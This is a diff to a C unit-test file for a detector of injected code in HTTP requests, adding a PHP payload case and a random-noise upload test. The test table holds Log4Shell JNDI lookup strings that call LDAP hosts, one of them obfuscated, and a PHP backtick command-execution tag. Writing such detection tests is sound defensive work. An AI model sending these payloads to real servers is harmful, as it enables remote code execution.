@@ -111,6 +111,7 @@ static void code_in_headers_does_not_hang_on_the_resource(void **state)
 		  SINK_HEADER },
 		{ HEAD("/?a=${jndi:ldap://192.0.2.1/x}"), LANGUAGE_JNDI, "${jndi:ldap://192.0.2.1/x}", CONTEXT_ALONE,
 		  SINK_HEADER },
+		{ HEAD("/?a=%3C?=`id`?%3E"), LANGUAGE_PHP, "<?=`id`?>", CONTEXT_ALONE, SINK_RESOURCE },
 		{ "GET / HTTP/1.1\r\nUser-Agent: ${${::-j}${lower:n}d${env:NO:-i}:ldap://h/x}\r\n\r\n", LANGUAGE_JNDI,
 		  "${${::-j}${lower:n}d${env:NO:-i}:ldap://h/x}", CONTEXT_ALONE, SINK_HEADER },
 	};
@@ -165,6 +166,33 @@ static void a_code_tells_where_it_stood_and_how_it_was_written(void **state)
 	extraction_free(e);
 }
 
+/* Pictures and archives hold every short sequence of bytes by chance. */
+static void uploads_of_noise_give_nothing(void **state)
+{
+	static const char head[] = "POST /up HTTP/1.1\r\nContent-Type: multipart/form-data; boundary=B\r\n\r\n"
+				   "--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.jpg\"\r\n\r\n";
+	static char request[sizeof(head) + (96 << 10)];
+	uint64_t chance = 88172645463325252;
+
+	memcpy(request, head, sizeof(head) - 1);
+	for (unsigned n = 0; n < 200; n++) {
+		struct extraction *e = NULL;
+
+		for (size_t i = sizeof(head) - 1; i < sizeof(request); i++) {
+			chance ^= chance << 13;
+			chance ^= chance >> 7;
+			chance ^= chance << 17;
+			request[i] = (char)(chance >> 32);
+		}
+		/* what a rule would have caught by chance */
+		memcpy(request + sizeof(head) + 2000, n % 2 == 0 ? "<?=" : "${jndi", n % 2 == 0 ? 3 : 6);
+		assert_int_equal(extract_bytes(bytes_of(request, sizeof(request)), &e), 0);
+		if (e->count > 0)
+			fail_msg("upload %u gave %u codes, the first in language %d", n, e->count, (int)e->codes[0].language);
+		extraction_free(e);
+	}
+}
+
 static void hostile_requests_stay_within_bounds(void **state)
 {
 	static char request[300000];
@@ -189,6 +217,7 @@ int main(void)
 		cmocka_unit_test(paths_that_leave_their_folder_are_code),
 		cmocka_unit_test(ordinary_text_gives_nothing),
 		cmocka_unit_test(a_code_tells_where_it_stood_and_how_it_was_written),
+		cmocka_unit_test(uploads_of_noise_give_nothing),
 		cmocka_unit_test(hostile_requests_stay_within_bounds),
 	};
 
